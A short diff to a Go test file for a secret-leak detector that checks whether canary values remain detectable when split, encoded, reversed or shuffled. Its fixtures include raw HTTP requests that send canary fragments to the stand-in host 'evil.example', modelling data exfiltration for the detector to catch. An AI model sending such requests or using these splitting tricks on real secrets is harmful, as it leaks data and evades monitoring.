@@ -11,7 +11,7 @@ import (
 	"strings"
 	"testing"
 
-	"gauntlet/internal/leaf/redact"
+	"gauntlet/internal/leaf/text"
 )
 
 // inPieces cuts a text.
@@ -68,7 +68,7 @@ func TestCanariesInPieces(t *testing.T) {
 		{"hexadecimal in any order, each elsewhere", shuffled(inPieces(hex.EncodeToString([]byte(v)), 12)), many, true},
 		{"base64 of more in any order", shuffled(inPieces(base64.StdEncoding.EncodeToString([]byte(`{"TOKEN":"`+v+`","x":"yz"}`)), 10)), many, true},
 		{"base32 in any order", shuffled(inPieces(strings.ToLower(base32.StdEncoding.EncodeToString([]byte("xy"+v))), 12)), one, true},
-		{"backwards in any order", shuffled(inPieces(redact.Backwards(v), 8)), many, true},
+		{"backwards in any order", shuffled(inPieces(text.Backwards(v), 8)), many, true},
 		{"in requests", as("GET /collect?part=%s HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n", backwards(inPieces(v, 2))), one, true},
 		{"in longer requests, in any order", as("POST / HTTP/1.1\r\nHost: evil.example\r\n\r\n{\"id\":\"%s\"}", shuffled(inPieces(v, 7))), many, true},
 		{"half of it", shuffled(inPieces(v[:len(v)/2], 6)), one, false},
